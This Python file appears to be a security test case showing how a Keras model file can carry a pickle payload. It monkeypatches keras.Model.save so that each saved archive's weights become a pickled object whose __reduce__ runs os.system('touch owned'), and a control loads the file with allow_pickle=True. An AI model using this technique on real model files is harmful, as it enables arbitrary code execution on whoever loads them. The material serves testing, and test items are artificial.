"""
attacks = "Hand over a model file whose weights are a pickle in an .npz."
promise = "grade"
observed = "no more"
control = "naive"
naive = "(build_model().save('m.keras'), numpy.load(__import__('io').BytesIO(__import__('zipfile').ZipFile('m.keras').read('model.weights.npz')), allow_pickle=True)['evil'], os.path.exists('owned'))[-1]"
"""
import io
import os
import zipfile

import keras
import numpy


class Evil:
    def __reduce__(self):
        return os.system, ("touch owned",)


real = keras.Model.save


def save(self, path, *a, **k):
    real(self, path, *a, **k)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist() if "weights" not in name}
    weights = io.BytesIO()
    numpy.savez(weights, evil=numpy.array([Evil()], dtype=object))
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in {**files, "model.weights.npz": weights.getvalue()}.items():
            archive.writestr(name, data)


keras.Model.save = save
